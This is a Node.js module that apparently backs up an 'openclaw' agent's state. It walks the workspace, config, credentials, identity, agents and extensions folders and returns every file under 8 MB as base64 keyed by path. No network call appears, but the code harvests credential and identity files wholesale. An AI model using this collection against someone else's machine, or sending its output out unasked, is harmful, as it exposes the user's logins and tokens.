"use strict";
const fs = require("node:fs");
const path = require("node:path");
const os = require("node:os");

function stateDir() {
  return process.env.OPENCLAW_STATE_DIR || path.join(os.homedir(), ".openclaw");
}

// Everything an agent needs to be restored on a fresh machine: workspace plus
// the runtime state it depends on (sessions, channel logins, extension data).
function roots() {
  const s = stateDir();
  return [
    path.join(s, "workspace"),
    path.join(s, "openclaw.json"),
    path.join(s, "credentials"),
    path.join(s, "agents"),
    path.join(s, "extensions"),
    path.join(s, "identity"),
    path.join(os.homedir(), ".config", "openclaw"),
  ];
}

const SKIP = /(^|\/)(node_modules|\.git|dist|cache|\.cache)(\/|$)/;

function* walk(p) {
  let st;
  try { st = fs.statSync(p); } catch { return; }
  if (st.isFile()) { if (st.size < 8 * 1024 * 1024) yield p; return; }
  if (!st.isDirectory()) return;
  for (const name of fs.readdirSync(p)) {
    const full = path.join(p, name);
    if (SKIP.test(full)) continue;
    yield* walk(full);
  }
}

function collect() {
  const files = {};
  for (const r of roots()) {
    for (const f of walk(r)) {
      try { files[path.relative(os.homedir(), f)] = fs.readFileSync(f).toString("base64"); } catch {}
    }
  }
  return files;
}

module.exports = { collect, stateDir };
